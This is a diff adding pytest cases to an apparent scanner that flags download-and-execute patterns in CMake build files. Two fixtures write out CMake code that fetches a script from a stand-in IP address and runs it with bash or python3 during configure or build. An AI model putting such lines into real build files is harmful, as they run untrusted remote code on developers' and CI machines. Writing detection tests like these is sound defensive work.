@@ -588,3 +588,35 @@ def test_groovy_download_unpacked_with_execute_runs_nothing(tmp_path: Path) -> N
         '["unzip", "-o", zip.path].execute().waitFor()\n'
     )
     assert Kind.EXEC_FETCHED not in kinds(tmp_path, "build.gradle", source)
+
+
+def test_cmake_download_run_when_the_project_is_configured_is_download_and_run(tmp_path: Path) -> None:
+    source = (
+        "cmake_minimum_required(VERSION 3.20)\n"
+        "project(probe C)\n"
+        'set(PROBE_SCRIPT "${CMAKE_BINARY_DIR}/probe-cpu.sh")\n'
+        'file(DOWNLOAD "http://192.0.2.120/probe-cpu.sh" ${PROBE_SCRIPT})\n'
+        "execute_process(\n"
+        "  COMMAND bash ${PROBE_SCRIPT}\n"
+        "  OUTPUT_QUIET\n"
+        ")\n"
+    )
+    errors = scan_errors(tmp_path, {"template/CMakeLists.txt": source})
+    assert ("DOWNLOAD_AND_RUN", "template/CMakeLists.txt", 6) in errors
+
+
+def test_cmake_download_saved_by_path_then_a_custom_command_runs_it(tmp_path: Path) -> None:
+    source = (
+        'file(DOWNLOAD https://198.51.100.5/gen/stubs.py "${CMAKE_CURRENT_BINARY_DIR}/stubs.py")\n'
+        'add_custom_command(OUTPUT stubs.c COMMAND python3 "${CMAKE_CURRENT_BINARY_DIR}/stubs.py" -o stubs.c)\n'
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "cmake/stubs.cmake", source)
+
+
+def test_cmake_pinned_archive_unpacked_with_cmake_e_tar_runs_nothing(tmp_path: Path) -> None:
+    source = (
+        'file(DOWNLOAD https://github.com/fmtlib/fmt/releases/download/11.0.2/f.zip "${CMAKE_BINARY_DIR}/fmt.zip")\n'
+        'execute_process(COMMAND ${CMAKE_COMMAND} -E tar xf "${CMAKE_BINARY_DIR}/fmt.zip")\n'
+        "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE VERSION)\n"
+    )
+    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "cmake/deps.cmake", source)
